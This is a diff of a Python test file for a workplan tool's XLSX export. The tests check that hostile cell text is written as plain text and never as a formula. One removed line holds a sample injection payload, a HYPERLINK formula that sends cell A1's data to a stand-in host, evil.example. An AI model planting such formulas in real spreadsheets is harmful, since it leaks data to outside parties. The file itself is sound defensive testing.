@@ -16,12 +16,11 @@ import openpyxl
 import pytest
 
 from tests.exporting import add_dates, check_golden
+from tests.test_export import HOSTILE_CELLS, _hostile_plan
 from workplan_cli.edit import sheet
 from workplan_cli.output.xlsx import read_workbook
 from workplan_cli.plan.store import find_repo
 from workplan_cli.plan.vocab import STATUSES
-
-HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 @pytest.fixture
@@ -100,17 +99,19 @@ def test_the_sheet_is_ready_to_fill_in(cli, dated):
 
 
 def test_text_is_never_a_formula(cli, repo):
-    path = repo / "data" / "workplan-2024.yaml"
-    text = path.read_text(encoding="utf-8")
-    first = text.index("title:", text.index("activities:"))
-    end = text.index("\n", first)
-    path.write_text(text[:first] + f"title: {json.dumps(HOSTILE_TITLE)}" + text[end:], "utf-8")
+    _hostile_plan(repo)  # the CSV export's injection cases (OWASP)
     out = export(cli, repo)
     with zipfile.ZipFile(out) as archive:
-        xml = archive.read("xl/worksheets/sheet2.xml").decode()
-    assert "<f>" not in xml and "<f " not in xml
-    cell = openpyxl.load_workbook(out)[sheet.SHEET]["D2"]
-    assert (cell.value, cell.data_type) == (HOSTILE_TITLE, "s")
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name).decode()
+                assert "<f>" not in xml and "<f " not in xml, name
+    rows = activities(out)
+    row = dict(zip(rows[0], next(r for r in rows if r[0] == "1.3.2"), strict=True))
+    for column, label in [("title", "Title"), ("text", "Description"), ("last_note", "Last note")]:
+        assert row[label] == HOSTILE_CELLS[column]  # as written, no quote added
+    ws = openpyxl.load_workbook(out)[sheet.SHEET]
+    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
     table = read_workbook(out.read_bytes(), "plan.xlsx")
     assert not any(c.formula for _, row in table.rows for c in row)
 
@@ -154,11 +155,7 @@ def test_xlsx_needs_a_file(cli, repo):
 @pytest.mark.slow
 @pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
 def test_libreoffice_opens_the_workbook_with_its_values(cli, dated, tmp_path):
-    path = repo_plan = dated / "data" / "workplan-2024.yaml"
-    text = repo_plan.read_text(encoding="utf-8")
-    first = text.index("title:", text.index("activities:"))
-    end = text.index("\n", first)
-    path.write_text(text[:first] + f"title: {json.dumps(HOSTILE_TITLE)}" + text[end:], "utf-8")
+    _hostile_plan(dated)
     book = export(cli, dated)
     # Sheet 2 (Activities) as UTF-8 CSV: the 12th field of the filter options picks the sheet.
     subprocess.run(
@@ -182,9 +179,10 @@ def test_libreoffice_opens_the_workbook_with_its_values(cli, dated, tmp_path):
     assert rows[0] == expected[0]
     assert len(rows) == len(expected)
     by_id = {r[0]: r for r in rows[1:]}
-    assert by_id["1.1.1"][3] == HOSTILE_TITLE  # text, not a formula's result
     header = rows[0]
     row = dict(zip(header, by_id["1.3.2"], strict=True))
+    assert row["Title"] == HOSTILE_CELLS["title"]  # text, not a formula's result
+    assert row["Description"] == HOSTILE_CELLS["text"]
     assert row["Start"] == "2024-09-16" and row["Status"] == "completed"
     for want in expected[1:]:
         have = by_id[want[0]]
